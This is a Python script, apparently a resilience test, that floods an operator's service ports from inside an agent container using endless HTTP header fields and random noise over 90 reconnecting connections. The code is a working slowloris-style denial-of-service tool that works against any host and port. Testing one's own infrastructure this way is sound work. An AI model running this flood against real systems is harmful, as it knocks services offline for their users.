"""Floods ports of the operator from within an agent's container, for some seconds.

    python3 flooder.py SECONDS HOST PORT...

Runs in the agent's image, and is sent there as text. Half of its connections send heads that never
end, the others noise; what is cut off is opened again.
"""

import os
import socket
import sys
import time

CONNECTIONS = 90
START = b"POST /v1/report HTTP/1.1\r\n"
FIELD = b"X: " + "\U0001f600".encode() + b"a" * 7800 + b"\r\n"


def connect(host: str, port: int) -> socket.socket:
    """Begin a connection, and begin to talk."""
    made = socket.create_connection((host, port), timeout=1)
    made.setblocking(False)
    made.send(START)
    return made


def main(seconds: str, host: str, *ports: str) -> None:
    """Flood, and write down how many bytes were taken."""
    places = [(host, int(port)) for port in ports]
    held: dict[int, socket.socket] = {}
    taken, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for number in range(CONNECTIONS):
            try:
                if number not in held:
                    held[number] = connect(*places[number % len(places)])
                taken += held[number].send(FIELD if number % 4 < 2 else os.urandom(512))
            except BlockingIOError:
                continue
            except OSError:
                if number in held:
                    held.pop(number).close()
    sys.stdout.write(f"{taken}\n")


main(*sys.argv[1:])
